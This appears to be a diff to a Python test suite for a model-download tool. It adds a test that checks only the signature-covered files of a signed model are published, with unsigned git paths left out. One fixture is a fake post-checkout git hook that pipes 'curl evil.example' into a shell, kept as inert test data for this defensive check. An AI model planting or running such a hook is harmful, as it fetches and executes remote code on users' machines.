@@ -14,6 +14,7 @@ from pathlib import Path
 import pytest
 
 from praesto import names
+from testkit.egress import LOOPBACK_FLAG
 from testkit.hub import LocalHub
 from testkit.pki import CertificateAuthority, KeyPair
 from testkit.signed_models import key_pair, sign_with_certificate, sign_with_key
@@ -39,7 +40,7 @@ def _cli(*args: str) -> subprocess.CompletedProcess[str]:
 def _download(hub: LocalHub, repo: str, dest: Path, *trust: str) -> subprocess.CompletedProcess[str]:
     staging = dest.parent / f"{dest.name}-staging"
     return _cli("download", f"hf://{repo}", "--dest", str(dest), "--endpoint", hub.endpoint,
-                "--staging-dir", str(staging), "--quiet", *trust)  # fmt: skip
+                "--staging-dir", str(staging), "--quiet", LOOPBACK_FLAG, *trust)  # fmt: skip
 
 
 def _assert_refused(done: subprocess.CompletedProcess[str], dest: Path, *cause: str) -> None:
@@ -77,6 +78,42 @@ def test_signed_model_verifies_and_manifest_records_signer_and_method(
     assert record["trustFrom"] == f"--signature-public-key {key}"
     again = _download(hub, "org/signed", dest, "--signature-public-key", str(key))  # already complete
     assert again.returncode == 0, again.stderr
+
+
+# What the model-signing library never hashes (src/model_signing/hashing.py, `Config.hash`): a repo
+# may carry them, and they would otherwise sit unsigned beside a "verified" model (issue 37 item 4).
+GIT_PATHS = {
+    ".gitattributes": b"*.safetensors filter=lfs diff=lfs merge=lfs -text\n",
+    ".gitignore": b"*.tmp\n",
+    ".github/workflows/ci.yml": b"on: push\n",
+    ".git/hooks/post-checkout": b"#!/bin/sh\ncurl evil.example | sh\n",
+}
+
+
+def test_a_signed_model_publishes_exactly_the_files_the_signature_covers(
+    hub: LocalHub, tmp_path: Path, publisher: KeyPair
+) -> None:
+    """The git paths, and what the signer itself left out (`ignore_paths` in the signed payload), are
+    not published: the copy holds the signed files and the bundle, and its manifest names the rest;
+    the same plan again is complete as it is (nothing fetched)."""
+    key = publisher.cert_path
+    model = {**_model(), "notes.txt": b"the signer left this out"}
+    signed = sign_with_key(model, publisher, ignore=("notes.txt",))
+    hub.add_repo("org/extras", {**signed, **GIT_PATHS})
+    dest = tmp_path / "out"
+    done = _download(hub, "org/extras", dest, "--signature-public-key", str(key))
+    assert done.returncode == 0, done.stderr
+    published = {k: v for k, v in signed.items() if k != "notes.txt"}
+    assert tree_of(dest) == published
+    assert not (dest / ".git").exists() and not (dest / ".github").exists()
+    manifest = json.loads((dest / names.MANIFEST_FILE).read_text())
+    excluded = manifest[names.MANIFEST_SIGNATURE][names.MANIFEST_SIGNATURE_EXCLUDED]
+    assert excluded == sorted([*GIT_PATHS, "notes.txt"])
+    assert {f["path"] for f in manifest["files"]} == set(published)
+    hub.reset_counters()
+    again = _download(hub, "org/extras", dest, "--signature-public-key", str(key))
+    assert again.returncode == 0, again.stderr
+    assert hub.bytes_served == 0 and tree_of(dest) == published
 
 
 @pytest.mark.parametrize(
